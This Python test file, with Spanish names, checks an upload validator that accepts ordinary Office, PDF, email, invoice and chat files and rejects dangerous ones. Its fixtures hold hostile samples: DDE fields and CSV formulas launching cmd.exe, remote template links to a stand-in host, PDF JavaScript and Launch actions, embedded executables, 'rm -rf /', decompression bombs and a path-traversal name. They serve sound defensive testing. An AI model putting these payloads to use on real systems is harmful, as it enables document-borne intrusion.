"""What would run at whoever opens a file is refused with its way out; what is ordinary passes.

Truncated, turned or lying files are accepted or refused with a sentence, never anything else.
"""

import io
import time
import tracemalloc
import unicodedata
import zlib

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject

from casos import paquetes
from casos.archivos import compuestos, escritos, office, pdf, tipos
from casos.archivos.reconocer import PROGRAMA, VIDEO, reconocer
from casos.archivos.tipos import ArchivoRechazado
from casos.formularios.archivos import LARGO_NOMBRE, nombre_propio
from tests import muestras as m

EXTERNA = "word/_rels/settings.xml.rels"


def es(contenido, nombre="archivo"):
    return reconocer(io.BytesIO(contenido), nombre)


def rechazo(contenido, nombre="archivo") -> str:
    with pytest.raises(ArchivoRechazado) as error:
        es(contenido, nombre)
    return str(error.value)


# -- Office ----------------------------------------------------------------------------------------


def con_separador(contenido: bytes) -> bytes:
    """The names inside with backslashes, as some programs pack them."""
    return contenido.replace(b"word/document.xml", b"word\\document.xml")


ORDINARIOS = {
    "Word Online": m.office(parte="/word/document2.xml"),
    "otro número": m.office(parte="/word/document22.xml"),
    "Excel con otro nombre": m.office("xlsx", "/xl/workbook22.xml"),
    "en la raíz": m.office(parte="/documento.xml"),
    "mayúsculas": m.office(parte="/WORD/DOCUMENT.XML"),
    "diagonales al revés": con_separador(m.office()),
    "OOXML estricto": m.office(familia=m.ESTRICTA),
    "UTF-16": m.office(partes={"word/document.xml": m.documento().replace("UTF-8", "UTF-16").encode("utf-16")}),
    "tipos y relaciones en UTF-16": m.office(
        partes={
            "[Content_Types].xml": m.tipos(m.PRINCIPAL["docx"], "/word/document.xml").replace("UTF-8", "UTF-16").encode("utf-16"),
            "_rels/.rels": m.relaciones(m.relacion("officeDocument", "/word/document.xml")).replace("UTF-8", "UTF-16").encode("utf-16"),
        }
    ),
    "un enlace": m.con_relacion("hyperlink", "https://cliente.mx/a?b=1", fuera=True),
    "un correo": m.con_relacion("hyperlink", "mailto:ana@cliente.mx", fuera=True),
    "un enlace a una carpeta": m.con_relacion("hyperlink", "file:///\\\\servidor\\ventas", fuera=True),
    "una imagen de internet": m.con_relacion("image", "https://cliente.mx/logo.png", fuera=True),
    "la plantilla de la casa": m.con_relacion(
        "attachedTemplate", "file:///C:\\Users\\ana\\Plantillas\\Oficio.dotx", parte=EXTERNA, fuera=True
    ),
    "otro libro": m.office(
        "xlsx", "/xl/workbook.xml",
        partes={"xl/externalLinks/_rels/externalLink1.xml.rels": m.relaciones(
            m.relacion("externalLinkPath", "file:///C:\\datos\\tarifas.xlsx", fuera=True))},
    ),
    "una gráfica con su libro": m.office(partes={"word/embeddings/libro.xlsx": m.xlsx()}),
    "una ecuación vieja": m.office(partes={"word/embeddings/o.bin": m.cfb({"Equation Native": b"x"})}),
    "índice y páginas": m.office(cuerpo=m.documento(
        '<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:instrText>TOC \\o "1-3"</w:instrText></w:r>'
        "<w:r><w:t>La DDE se explica aquí; DDEAUTO también.</w:t></w:r></w:p>")),
    "presentación": m.office("pptx", "/ppt/presentation.xml"),
    "hecho por openpyxl": m.xlsx(),
}  # fmt: skip


@pytest.mark.parametrize("cual", ORDINARIOS)
def test_lo_ordinario_pasa(cual):
    assert es(ORDINARIOS[cual]) in (tipos.DOCX, tipos.XLSX, tipos.PPTX)


def tipo_extra(tipo, parte="/word/x.bin") -> tuple[str]:
    return (f'<Override PartName="{parte}" ContentType="{tipo}"/>',)


def campo(*pedazos, etiqueta="instrText") -> str:
    corridas = "".join(f"<w:r><w:{etiqueta}>{p}</w:{etiqueta}></w:r>" for p in pedazos)
    return m.documento(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{corridas}</w:p>')


DE_MACROS = {
    "docm": m.office("docm"),
    "tipo en mayúsculas": m.office(mas=tipo_extra("APPLICATION/VND.MS-OFFICE.VBAPROJECT")),
    "tipo con entidad": m.office(mas=tipo_extra("application/vnd.ms-office.vba&#x50;roject")),
    "tipo por terminación": m.office(
        mas=('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',)
    ),
    "parte": m.office(partes={"word/vbaProject.bin": b"x"}),
    "parte en mayúsculas": m.office(partes={"WORD/VBAPROJECT.BIN": b"x"}),
    "macros de Excel 4": m.office(
        "xlsx", "/xl/workbook.xml", mas=tipo_extra("application/vnd.ms-excel.macrosheet+xml", "/xl/macrosheets/s.xml")
    ),
    "hoja de macros": m.office("xlsx", "/xl/workbook.xml", partes={"xl/macrosheets/sheet1.xml": "<x/>"}),
    "dentro de otro": m.office(partes={"word/embeddings/l.xlsx": m.office(partes={"xl/vbaProject.bin": b"x"})}),
    "sin tipo principal": m.office("docm", parte="/word/otro.xml"),
}  # fmt: skip
REMOTOS = {
    "plantilla http": m.con_relacion("attachedTemplate", "http://mal.mx/a.dotm", parte=EXTERNA, fuera=True),
    "plantilla de otra máquina": m.con_relacion("attachedTemplate", "\\\\mal.mx\\a.dotm", parte=EXTERNA, fuera=True),
    "con file": m.con_relacion("attachedTemplate", "file://mal.mx/a.dotm", parte=EXTERNA, fuera=True),
    "con cinco diagonales": m.con_relacion("attachedTemplate", "file://///mal.mx/a", parte=EXTERNA, fuera=True),
    "con escapes": m.con_relacion("attachedTemplate", "%5C%5Cmal.mx%5Ca", parte=EXTERNA, fuera=True),
    "con entidades": m.con_relacion("attachedTemplate", "h&#116;tp://mal.mx/a.dotm", parte=EXTERNA, fuera=True),
    "estricta": m.con_relacion("attachedTemplate", "http://mal.mx/a", familia=m.ESTRICTA, fuera=True),
    "marco": m.con_relacion("frame", "http://mal.mx/a.htm", parte="word/_rels/webSettings.xml.rels", fuera=True),
    "subdocumento": m.con_relacion("subDocument", "http://mal.mx/a.docx", fuera=True),
    "objeto": m.con_relacion("oleObject", "mhtml:http://mal.mx/x.html!x-usc:http://mal.mx/x.html", fuera=True),
    "objeto de la casa": m.con_relacion("oleObject", "file:///C:\\a.xlsx", fuera=True),
    "pedazo": m.con_relacion("aFChunk", "http://mal.mx/a.htm", fuera=True),
    "imagen de otra máquina": m.con_relacion("image", "\\\\mal.mx\\a.png", fuera=True),
    "relaciones en mayúsculas": m.office(partes={
        "WORD/_RELS/DOCUMENT.XML.RELS": m.relaciones(m.relacion("oleObject", "http://mal.mx", fuera=True))}),
}  # fmt: skip
INCRUSTADOS = {
    "un programa": m.office(partes={"word/media/image1.png": m.EXE}),
    "un paquete OLE": m.office(partes={"word/embeddings/o.bin": m.cfb({"\x01Ole10Native": m.EXE})}),
    "macros de Word 97": m.office(partes={"word/embeddings/o.doc": m.cfb({"Macros/VBA": b"x", "WordDocument": b"x"})}),
}  # fmt: skip
DDE = {
    "campo": m.office(cuerpo=campo(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')),
    "en pedazos": m.office(cuerpo=campo("DD", "EAU", "TO c:\\x")),
    "con entidad": m.office(cuerpo=campo("&#68;DE c:\\x")),
    "borrado": m.office(cuerpo=campo("DDE x", etiqueta="delInstrText")),
    "simple": m.office(cuerpo=m.documento('<w:p><w:fldSimple w:instr="DDEAUTO c:\\x"/></w:p>')),
    "en el pie": m.office(partes={"word/footer1.xml": campo("dde x")}),
    "en UTF-16": m.office(cuerpo=campo("DDE x").replace("UTF-8", "UTF-16").encode("utf-16")),
    "de Excel": m.office("xlsx", "/xl/workbook.xml", partes={
        "xl/externalLinks/externalLink1.xml":
            '<x:externalLink xmlns:x="a"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>'}),
}  # fmt: skip


@pytest.mark.parametrize(
    ("contenido", "dice"),
    [
        *[(c, office.MACROS) for c in DE_MACROS.values()],
        *[(c, office.REMOTO) for c in REMOTOS.values()],
        *[(c, office.DDE) for c in DDE.values()],
        *[(c, tipos.INCRUSTADO) for c in INCRUSTADOS.values()],
        (m.office(partes={"word/activeX/activeX1.xml": "<x/>"}), office.CONTROLES),
        (m.office("dotx"), office.PLANTILLA),
        (m.empacar({"a.txt": "x"}), office.COMPRIMIDO),
        (m.empacar({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}), office.ODF),
        (m.office(partes={"word/document.xml": "<!DOCTYPE x><x/>"}), paquetes.CON_DEFINICIONES),
    ],
)  # fmt: skip
def test_lo_que_correria_se_rechaza_con_su_salida(contenido, dice):
    assert rechazo(contenido) == dice
    assert dice.endswith(".")


# -- PDF -------------------------------------------------------------------------------------------

ACCION = "<< /S /JavaScript /JS (app.alert(1)) >>"
ACTIVOS = {
    "en claro": m.pdf(f"3 0 obj\n{ACCION}\nendobj"),
    "con escapes": m.pdf("3 0 obj\n<< /S /J#61va#53cript /JS (x) >>\nendobj"),
    "pegado": m.pdf("3 0 obj\n<</S/JavaScript/JS(x)>>\nendobj"),
    "al abrir": m.pdf("3 0 obj\n<< /OpenAction << /S /Launch /F (cmd.exe) >> >>\nendobj"),
    "empacado": m.pdf(empacados=ACCION),
    "empacado con escapes": m.pdf(empacados="<< /S /#4aavaScript /#4a#53 (x) >>"),
    "empacado, otra acción": m.pdf(empacados="<< /S /Launch /Win << /F (cmd) >> >>"),
    "escondido tras un falso pedazo": m.pdf(f"3 0 obj\n(<< >>stream\n) {ACCION} endstream\nendobj"),
    "empacado tras un comentario": m.pdf().replace(
        b"trailer",
        b"9 0 obj\n<< /Type /ObjStm >>\nstream\n" + zlib.compress(b"% hola\n7 0 << /S /JavaScript >>") + b"\nendstream\ntrailer",
    ),
    "dice que está cifrado": m.pdf("% /Encrypt", empacados=ACCION),
    "cortado": m.pdf(empacados=ACCION + " " * 50_000)[:-60],
    "formulario XFA": m.pdf(
        "3 0 obj\n<< /XFA 4 0 R >>\nendobj\n4 0 obj\n<< >>\nstream\n<xdp><script contentType='application/x-javascript'>"
    ),
}  # fmt: skip
CON_PROGRAMA = {
    "por su nombre": m.pdf(
        "3 0 obj\n<< /Type /Filespec /F (factura.exe) /EF << /F 4 0 R >> >>\nendobj"
    ),
    "empacado": m.pdf(empacados="<< /Type /Filespec /UF (factura.scr) >>"),
    "con números": m.pdf("3 0 obj\n<< /Type /Filespec /UF <FEFF0061002E006500780065> >>\nendobj"),
    "en UTF-16": m.pdf("3 0 obj\n<< /F (\0a\0.\0e\0x\0e) >>\nendobj"),
    "por lo que es": m.pdf().replace(
        b"trailer", b"9 0 obj\n<< >>\nstream\n" + zlib.compress(m.EXE) + b"\nendstream\ntrailer"
    ),
}
PDF_BUENOS = {
    "abre en su página": m.pdf(),
    "con objetos empacados": m.pdf(empacados="<< /Type /Page /Annots [<< /URI (https://a.mx) >>] >>"),
    "con su XML adjunto": m.pdf("3 0 obj\n<< /Type /Filespec /F (cfdi.xml) /EF << /F 4 0 R >> >>\nendobj"),
    "con direcciones": m.pdf("3 0 obj\n<< /FS /URL /F (http://www.empresa.com) >>\nendobj"),
    "tras blancos": b"\xef\xbb\xbf\r\n" + m.pdf(),
    "tras un renglón de impresora": b"\x1b%-12345X@PJL JOB\r\n" + m.pdf(),
    "habla de JavaScript": m.pdf(empacados="<< /Title (Curso de JavaScript) /S /JavaScripts >>"),
}  # fmt: skip


@pytest.mark.parametrize("cual", PDF_BUENOS)
def test_un_pdf_ordinario_pasa(cual):
    assert es(PDF_BUENOS[cual]) is tipos.PDF


@pytest.mark.parametrize(
    ("contenido", "dice"),
    [
        *[(c, pdf.CON_JAVASCRIPT) for c in ACTIVOS.values()],
        *[(c, pdf.CON_PROGRAMA) for c in CON_PROGRAMA.values()],
        (m.pdf("3 0 obj\n<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n"), pdf.OTRA_ESCRITURA),
    ],
)  # fmt: skip
def test_un_pdf_que_hace_algo_se_rechaza(contenido, dice):
    assert rechazo(contenido) == dice


def cifrado(usuario="", **mas) -> bytes:
    escritor, salida = PdfWriter(), io.BytesIO()
    escritor.add_blank_page(100, 100)
    if mas.get("accion"):
        accion = {"/S": "/JavaScript", "/JS": "/x"}
        escritor._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject(k): NameObject(v) for k, v in accion.items()}
        )
    escritor.encrypt(usuario, "dueño", algorithm="AES-256" if mas.get("aes") else "RC4-128")
    escritor.write(salida)
    return salida.getvalue()


@pytest.mark.parametrize("aes", [False, True])
def test_un_pdf_que_todos_abren_pasa_y_el_que_pide_contrasena_no(aes):
    assert es(cifrado(aes=aes)) is tipos.PDF
    assert rechazo(cifrado("secreta", aes=aes)) == pdf.CON_CONTRASENA
    assert rechazo(cifrado(aes=aes, accion=True)) == pdf.CON_JAVASCRIPT


# -- mails, CFDI, texts, and what is none ----------------------------------------------------------


def correo(*renglones) -> bytes:
    return "\r\n".join([*renglones, "", "Aceptamos."]).encode()


@pytest.mark.parametrize(
    "contenido",
    [
        m.eml(),
        m.eml("contrato.pdf"),
        m.eml().replace(b"Aceptamos", b'<a name="www.empresa.com">Aceptamos</a>'),
        correo("Received: from a", " by b; hoy", "From: a@a.mx", "Subject: x"),
        correo("Delivered-To: a@a.mx", "Return-Path: <b@b.mx>"),
        correo("From ana@a.mx Mon Mar 16", "From: a@a.mx", "Date: hoy"),
        b"\xef\xbb\xbf" + correo("FROM: a@a.mx", "TO: b@b.mx"),
        correo("From: a@a.mx", "To: b").replace(b"\r\n", b"\n"),
    ],
)
def test_un_correo_se_conoce_por_su_cabeza(contenido):
    assert es(contenido, "sin-terminacion") is tipos.EML


@pytest.mark.parametrize("version", [3, 4])
def test_una_factura_se_conoce_por_su_raiz(version):
    assert es(m.cfdi(version)) is tipos.CFDI
    assert es(m.cfdi(version).decode().replace("UTF-8", "UTF-16").encode("utf-16")) is tipos.CFDI


XSS = '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'


@pytest.mark.parametrize(
    ("contenido", "nombre", "dice"),
    [
        (m.cfdi(antes="<!DOCTYPE x [<!ENTITY a 'b'>]>"), "f.xml", escritos.CFDI_CON_MAS),
        (
            m.cfdi(antes='<?xml-stylesheet href="http://mal.mx/a.xsl"?>'),
            "f.xml",
            escritos.CFDI_CON_MAS,
        ),
        (m.cfdi(dentro=XSS), "f.xml", escritos.CFDI_CON_MAS),
        (m.cfdi()[:-20], "f.xml", tipos.DANADO),
        (m.cfdi().replace(b"www.sat.gob.mx", b"www.sat.gob.mal"), "f.xml", escritos.XML),
        (b'<?xml version="1.0"?><Comprobante/>', "f.xml", escritos.XML),
        (b"<a><b/></a>", "a.txt", escritos.XML),
        (b"<!DOCTYPE html><html></html>", "a.xml", escritos.PAGINA),
        (b"\xef\xbb\xbf  <HTML>", "a.txt", escritos.PAGINA),
        ("<html>".encode("utf-16"), "a.pdf", escritos.PAGINA),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "a.png", escritos.PAGINA),
        (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
            "a.xml",
            escritos.PAGINA,
        ),
        (b"<html>" + b" " * 100 + m.PDF, "a.pdf", escritos.PAGINA),
        (m.eml("factura.pdf.exe"), "a.eml", tipos.ADJUNTO_QUE_CORRE),
        (m.eml("factura.js"), "a.eml", tipos.ADJUNTO_QUE_CORRE),
        (m.eml("año nuevo.exe"), "a.eml", tipos.ADJUNTO_QUE_CORRE),
        (m.eml("x" * 90 + ".scr"), "a.eml", tipos.ADJUNTO_QUE_CORRE),
        (
            m.eml("a.pdf").replace(b'"a.pdf"', b"=?utf-8?B?YS5leGU=?="),
            "a.eml",
            tipos.ADJUNTO_QUE_CORRE,
        ),
        (b"#!/bin/sh\nrm -rf /", "a.txt", escritos.PROGRAMA),
        (b"<?php echo 1;", "a.txt", escritos.PROGRAMA),
        (b"@echo off\r\ndel *", "a.txt", escritos.PROGRAMA),
        (b"MsgBox 1", "a.vbs", escritos.PROGRAMA),
        (b"a,b\n1,=cmd|' /C calc'!A0", "a.csv", escritos.DDE),
        (b"a;b\n\"@SUM(1+1)*cmd|' /C calc'!A0\";2", "a.csv", escritos.DDE),
        (b"hola", "a.rtf", tipos.NO_SE_ACEPTA),
        (b"{\\rtf1 hola}", "a.doc", escritos.RTF),
        (b"hola\0\x01", "a.txt", tipos.NO_SE_ACEPTA),
        (m.EXE, "a.pdf", PROGRAMA),
        (b"\x7fELF\x02\x01" + b"\0" * 50, "a.txt", PROGRAMA),
        (b"Rar!\x1a\x07\x01\0", "a.rar", office.COMPRIMIDO),
        (b"7z\xbc\xaf\x27\x1c\0", "a.7z", office.COMPRIMIDO),
        (b"\x1f\x8b\x08\0", "a.gz", office.COMPRIMIDO),
        (b"\0\0\0\x20ftypisom\0\0", "a.mp4", VIDEO),
        (b"OggS\0", "nota de voz.ogg", VIDEO),
        (b"GIF89a" + b"\0" * 9, "a.gif", tipos.NO_SE_ACEPTA),
    ],
)
def test_lo_que_no_se_acepta_dice_que_si(contenido, nombre, dice):
    assert rechazo(contenido, nombre) == dice


@pytest.mark.parametrize("escritura", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_el_chat_de_whatsapp_es_un_texto(escritura):
    chat = "12/3/26 10:15 - Ana: Sí, año nuevo; aceptamos <Multimedia omitido>\n" * 5
    assert es(chat.encode(escritura), "Chat de WhatsApp con Ana.txt") is tipos.TEXTO


# -- compound files --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("flujos", "dice"),
    [
        ({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}, compuestos.CON_CONTRASENA),
        ({"WordDocument": b"x", "1Table": b"x"}, "Word 97-2003"),
        ({"Workbook": b"x"}, "Excel 97-2003"),
        ({"Book": b"x"}, "Excel 5 o 95"),
        ({"PowerPoint Document": b"x"}, "PowerPoint 97-2003"),
        ({"VisioDocument": b"x"}, tipos.NO_SE_ACEPTA),
        (
            {"__properties_version1.0": b"x", "__attach/__substg1.0_3707001F": "a.exe".encode("utf-16-le")},
            tipos.ADJUNTO_QUE_CORRE,
        ),
        ({"__properties_version1.0": b"x", "__attach/__substg1.0_37010102": m.EXE}, tipos.ADJUNTO_QUE_CORRE),
    ],
)  # fmt: skip
def test_los_compuestos_se_distinguen(flujos, dice):
    entero = m.cfb(flujos)
    assert dice in rechazo(entero)
    if "EncryptedPackage" in flujos or "WordDocument" in flujos:
        assert dice in rechazo(entero[:1300])  # cut, its names still say it
    assert rechazo(entero[:520]) == compuestos.NO_SE_SABE


# -- anything at all -------------------------------------------------------------------------------

REALES = [
    m.office(partes={"word/embeddings/o.bin": m.cfb({"Equation Native": b"x"}), "word/embeddings/l.xlsx": m.xlsx()}),
    m.xlsx(),
    m.MSG,
    m.cfb({"EncryptedPackage": b"x" * 100}),
    m.pdf(empacados="<< /Type /Page >>"),
    cifrado(),
    m.eml("a.pdf"),
    m.cfdi(),
    m.CHAT,
    m.HEIC,
]  # fmt: skip


@settings(max_examples=600, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    cual=st.integers(0, len(REALES) - 1),
    cambios=st.lists(
        st.tuples(st.floats(0, 1), st.integers(0, 4), st.binary(max_size=6)), max_size=5
    ),
    hasta=st.floats(0.2, 1),
    nombre=st.text(max_size=20),
)
@example(cual=0, cambios=[], hasta=1, nombre="a.docx")
def test_cortado_volteado_o_mentiroso_se_acepta_o_se_dice(cual, cambios, hasta, nombre):
    crudo = bytearray(REALES[cual])
    for donde, quita, pone in cambios:
        desde = int(donde * (len(crudo) - 1)) if crudo else 0
        crudo[desde : desde + quita] = pone
    crudo = crudo[: int(hasta * len(crudo))]
    try:
        assert es(bytes(crudo), nombre) in tipos.ACEPTADOS
    except ArchivoRechazado as error:
        assert str(error).endswith(".")


@settings(max_examples=300, deadline=None)
@given(
    inicio=st.sampled_from([*(r[:8] for r in REALES), b"", b"<", b"From: a\n"]),
    crudo=st.binary(max_size=600),
)
def test_cualesquiera_bytes_tambien(inicio, crudo):
    try:
        es(inicio + crudo, "a.txt")
    except ArchivoRechazado as error:
        assert str(error).endswith(".")


MEGA = 1024 * 1024
PESADOS = {
    "pedazos de PDF": lambda: m.PDF + b"stream\nx\x9c" * 1_000_000,
    "bomba en un PDF": lambda: m.PDF + b"stream\n" + zlib.compress(b"1 0 " + b" " * (300 * MEGA)),
    "escapes de PDF": lambda: m.PDF + b"#41" * 3_000_000,
    "diccionarios de PDF": lambda: m.PDF + b"/ObjStm obj " * 800_000,
    "cadenas de PDF": lambda: m.PDF + b"/F(" * 3_000_000,
    "renglones de correo": lambda: b"From: a\nTo: b\n" + b"name=" * 2_000_000,
    "cabeza sin fin": lambda: b"a: b\n" * 2_000_000,
    "XML hondo": lambda: m.cfdi(dentro="<a>" * 3_000_000),
    "chat": lambda: m.CHAT * 100_000,
    "documento de 190 MB": lambda: m.office(partes={"word/media/a.bin": b" " * (140 * MEGA)}),
    "bomba en Word": lambda: m.office(partes={"word/document.xml": b"<a>" + b" " * (250 * MEGA)}),
    "campos de Word": lambda: m.office(cuerpo=campo(*["PAGE"] * 100_000)),
    "compuesto": lambda: compuestos.FIRMA + b"\xff" * (9 * MEGA),
}  # fmt: skip


@pytest.mark.parametrize("cual", PESADOS)
def test_nada_tarda_ni_pesa_de_mas(cual):
    crudo = PESADOS[cual]()
    assert len(crudo) <= 10 * MEGA
    archivo = io.BytesIO(crudo)
    antes = time.process_time()
    try:
        reconocer(archivo, "a.txt")
    except ArchivoRechazado:
        pass
    assert time.process_time() - antes < 6
    tracemalloc.start()
    try:
        reconocer(archivo, "a.txt")
    except ArchivoRechazado:
        pass
    finally:
        pico = tracemalloc.get_traced_memory()[1] / MEGA
        tracemalloc.stop()
    assert pico < 120, pico


@settings(max_examples=300, deadline=None)
@given(nombre=st.text(max_size=300), tipo=st.sampled_from(tipos.ACEPTADOS))
@example(nombre="a" * 300 + ".pdf", tipo=tipos.PDF)
@example(nombre="\u202e", tipo=tipos.PDF)
@example(nombre="../../etc/passwd", tipo=tipos.TEXTO)
def test_el_nombre_cabe_y_dice_lo_que_es(nombre, tipo):
    propio = nombre_propio(nombre, tipo)
    assert len(propio) <= LARGO_NOMBRE
    assert propio.endswith(tipo.extension) and len(propio) > len(tipo.extension)
    assert propio == "".join(c for c in propio if unicodedata.category(c) not in ("Cc", "Cs"))
    assert not any(c in propio for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


CON_ADJUNTO = (
    "From: ana@x.mx\r\nTo: luis@x.mx\r\nSubject: Hola\r\nMIME-Version: 1.0\r\n"
    'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n{texto}\r\n--b\r\n'
    "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
    "Content-Disposition: attachment; {nombre}\r\n\r\n{contenido}\r\n--b--\r\n"
)


@pytest.mark.parametrize(
    ("nombre", "contenido"),
    [
        ('filename*0="virus.";\r\n filename*1="exe"', "aG9sYQ=="),
        ('filename="=?utf-8?B?YS5l?=\r\n =?utf-8?B?eGU=?="', "aG9sYQ=="),
        ("filename*0*=utf-8''factura%2Ee;\r\n filename*1*=xe", "aG9sYQ=="),
        ('filename="foto.jpg"', "TVqQAAMAAAAEAAAA//8AALgAAAA="),
    ],
)
def test_un_programa_adjunto_se_halla_como_lo_halla_quien_abre_el_correo(nombre, contenido):
    crudo = CON_ADJUNTO.format(nombre=nombre, contenido=contenido, texto="Va.").encode()
    with pytest.raises(ArchivoRechazado, match="programa"):
        escritos.reconocer(crudo, "correo.eml")


def test_lo_que_solo_se_le_parece_pasa():
    """A line of the text is no header, a dialogue no markup, a dash no formula."""
    crudo = CON_ADJUNTO.format(
        nombre='filename="foto.jpg"', contenido="aG9sYQ==", texto="name = www.empresa.com"
    ).encode()
    assert escritos.reconocer(crudo, "correo.eml") is tipos.EML
    for texto in ("<Juan Pérez> Hola", "#! Puntos de la junta"):
        assert escritos.reconocer(texto.encode(), "chat.txt") is tipos.TEXTO
    assert escritos.reconocer(b"a,- Llamar al cliente | muy urgente!", "lista.csv") is tipos.CSV
    with pytest.raises(ArchivoRechazado, match="DDE"):
        escritos.reconocer(b"a,=1 + cmd|' /C calc'!A0", "lista.csv")
